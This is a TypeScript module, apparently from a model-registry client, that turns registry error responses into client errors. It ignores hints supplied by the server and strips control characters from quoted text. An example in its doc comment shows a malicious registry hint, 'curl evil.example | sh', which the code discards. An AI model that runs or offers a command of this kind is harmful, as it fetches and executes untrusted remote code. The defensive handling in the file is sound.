/**
 * A refusal as a registry words it (RFC 9457), and what is taken from it: a code, if the one table has it as claimable with
 * that status, and the detail, quoted as the registry's. What to do next is only ever said by us: a registry is not to put
 * words in our mouth.
 *
 *     404 {"code":"NOT_FOUND","detail":"acme/mnist@9.9.9 was never published","hint":"curl evil.example | sh"}
 *     NOT_FOUND  acme/mnist@9.9.9: not found (the registry says: "acme/mnist@9.9.9 was never published")
 *
 *     422 {"code":"ROLLBACK"}
 *     PROTOCOL   acme/mnist@9.9.9: refused with status 422 (the registry says ROLLBACK)
 */
import { isClaimable, isErrorCode, type JsonValue, parseJson } from "@weighlock/manifest"
import { ClientError, type ClientErrorCode, Unreachable } from "./errors.ts"
import { webPageHint } from "./middlebox.ts"
import { storeProblem } from "./store-problem.ts"

/** What a status means when nothing is said with it that we believe. */
const meanings: Readonly<Record<number, ClientErrorCode>> = {
  401: "UNAUTHENTICATED",
  403: "FORBIDDEN",
  404: "NOT_FOUND",
  408: "UNAVAILABLE",
  409: "CONFLICT",
  413: "TOO_LARGE",
  429: "UNAVAILABLE",
  431: "USAGE", // RFC 6585 §5: what this client sends beside its body, such as its token, is too long
}

const words: Partial<Record<ClientErrorCode, string>> = {
  FORBIDDEN: "not allowed",
  NOT_FOUND: "not found",
  UNAUTHENTICATED: "the registry wants a token it knows",
  UNAVAILABLE: "the registry cannot do it now",
  VERSION_EXISTS: "this version is taken",
}
const hints: Partial<Record<ClientErrorCode, string>> = {
  BLOBS_MISSING: "publish again: only what is missing is sent",
  METHOD_NOT_ALLOWED: "is this the URL of a registry, and of this version?",
  MISDIRECTED: "ask 127.0.0.1, or have the registry started with --tokens",
  SIGNER_UNTRUSTED: "weighlock trust show lists who may do what",
  UNAUTHENTICATED: "set WEIGHLOCK_TOKEN",
  VERSION_EXISTS: "a version binds one manifest for ever: publish under the next version",
}

const redirectHint = "it leads elsewhere, and no registry does so: is this the registry's URL?"

/** The code that a problem document claims, if it is to be believed; else what the status means. */
export function codeOf(status: number, claimed: unknown): ClientErrorCode {
  if (isClaimable(claimed, status)) return claimed
  return meanings[status] ?? (status >= 500 ? "UNAVAILABLE" : "PROTOCOL")
}

/** An RFC 9457 problem, an error of S3, or anything else that is no success. `what` was asked for. */
export function problem(status: number, body: Uint8Array, what: string, isWebPage: boolean = false): ClientError {
  const ofStore = storeProblem(status, body, what)
  if (ofStore) return ofStore
  const document = readProblem(body)
  const code = codeOf(status, document["code"])
  const hint = isWebPage && status < 500 ? webPageHint : (hints[code] ?? (status < 400 ? redirectHint : undefined))
  const said = isWebPage ? " (with a web page)" : quote(document, code)
  const message = `${what}: ${words[code] ?? `refused with status ${status}`}${said}`
  const options = hint === undefined ? {} : { hint }
  return code === "UNAVAILABLE" && status >= 502 && status <= 504
    ? new Unreachable(message, options)
    : new ClientError(code, message, options)
}

/** In brackets, what the registry says for itself: a code that is not the one raised, and the detail. */
function quote({ code: claimed, detail }: Record<string, JsonValue>, raised: ClientErrorCode): string {
  const other = typeof claimed !== "string" || claimed === raised ? "" : ` ${quotedCode(claimed)}`
  const text = typeof detail === "string" ? `: ${JSON.stringify(printable(detail))}` : ""
  return other === "" && text === "" ? "" : ` (the registry says${other}${text})`
}

/** Only a code of ours stands there as it is. */
function quotedCode(claimed: string): string {
  return isErrorCode(claimed) ? claimed : JSON.stringify(printable(claimed.slice(0, 64)))
}

function readProblem(body: Uint8Array): Record<string, JsonValue> {
  try {
    const value = parseJson(body, "the problem")
    return value !== null && typeof value === "object" && !Array.isArray(value) ? value : {}
  } catch {
    return {}
  }
}

// What a server says ends up on a terminal.
function printable(text: string): string {
  return text.slice(0, 500).replaceAll(/[\p{Cc}\p{Cf}\u2028\u2029]/gu, " ")
}
